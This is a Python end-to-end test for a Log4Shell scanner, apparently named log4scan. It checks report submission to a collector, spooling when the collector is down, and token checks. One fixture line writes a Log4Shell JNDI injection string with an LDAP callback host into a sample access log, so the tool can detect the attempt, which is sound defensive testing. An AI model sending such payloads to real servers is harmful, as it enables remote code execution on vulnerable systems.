#!/usr/bin/env python3
"""t_submit_e2e.py - the agent reports to the collector, end to end.

`log4scan scan --submit` and `log4scan logs --submit` against a real
`log4scan-server` (SQLite): the collector's summary matches what the agent
found; with the collector down the report is spooled (exit status
unaffected) and delivered by the next run; a missing token is refused."""
import json
import os
import socket
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from server_common import OUT, Server, check, check_eq, make_token, new_db  # noqa: E402

L4S, CORPUS = os.environ["L4S"], os.environ["CORPUS"]
SPOOL = os.path.join(OUT, "spool")
TREE = os.path.join(OUT, "tree")
os.makedirs(TREE, exist_ok=True)
for name, src in (("a.jar", "log4j-samples/true-hits/log4j-core-2.14.1.jar"),
                  ("b.jar", "log4j-samples/false-hits/log4j-core-2.17.1.jar"),
                  ("c.jar", "google-testdata/log4j-core-2.1.jar.patched")):
    with open(os.path.join(CORPUS, src), "rb") as f, open(os.path.join(TREE, name), "wb") as g:
        g.write(f.read())
LOG = os.path.join(OUT, "access.log")
with open(LOG, "w") as f:
    f.write('198.51.100.4 - - [10/Dec/2021:13:55:36 +0000] "GET /?x=${jndi:ldap://203.0.113.7:1389/a} HTTP/1.1" 200 1\n')


def agent(*args, token=None):
    env = dict(os.environ)
    env.pop("LOG4SCAN_TOKEN", None)
    if token:
        env["LOG4SCAN_TOKEN"] = token
    return subprocess.run([L4S, *args], capture_output=True, text=True, env=env, timeout=300)


db = new_db("sqlite", "e2e")
token = make_token(db, "fleet")
reader = make_token(db, "reader", role="read")
srv = Server(db)
url = "http://127.0.0.1:%d" % srv.port

p = agent("scan", "--format", "json", "--no-config", "--submit", url, "--spool-dir", SPOOL, TREE, token=token)
check_eq("scan --submit exits 1 (vulnerable found)", p.returncode, 1)
check("scan --submit says the report was sent", "sent to" in p.stderr, p.stderr[-300:])
summary = srv.get_json("/api/v1/summary", token=reader)
check_eq("collector counts one device", summary.get("devices"), 1)
check_eq("collector findings match the agent's",
         summary.get("findings"), {"vulnerable": 1, "mitigated": 1, "safe": 1})

p = agent("logs", "--format", "json", "--submit", url, "--spool-dir", SPOOL, LOG, token=token)
check_eq("logs --submit exits 1 (attempt found)", p.returncode, 1)
st, h, data = srv.get("/api/v1/attempts", token=reader)
check("collector has the attempt and its callback host", st == 200 and b"203.0.113.7" in data, data[:300])

# Collector down: the report is spooled, the scan's own verdict stands.
with socket.socket() as s:
    s.bind(("127.0.0.1", 0))
    dead = "http://127.0.0.1:%d" % s.getsockname()[1]
p = agent("scan", "--format", "json", "--no-config", "--submit", dead, "--spool-dir", SPOOL, TREE, token=token)
check_eq("collector down: exit status is the scan's", p.returncode, 1)
check("collector down: report kept in the spool", "kept in" in p.stderr and os.listdir(SPOOL), p.stderr[-300:])
before = srv.get_json("/api/v1/reports", token=reader)
p = agent("scan", "--format", "json", "--no-config", "--submit", url, "--spool-dir", SPOOL, TREE, token=token)
after = srv.get_json("/api/v1/reports", token=reader)
count = lambda r: r.get("total", len(r.get("items", r if isinstance(r, list) else [])))
check("next run delivers the spooled report too", count(after) >= count(before) + 2,
      "before %r after %r" % (count(before), count(after)))
check("spool is empty afterwards", not [f for f in os.listdir(SPOOL) if not f.startswith(".")], os.listdir(SPOOL))

p = agent("scan", "--no-config", "--submit", url, TREE)
check_eq("--submit without a token is refused", p.returncode, 2)
p = agent("scan", "--no-config", "--token", "x", TREE)
check_eq("--token without --submit is refused", p.returncode, 2)
check_eq("collector exits cleanly", srv.stop(), 0)
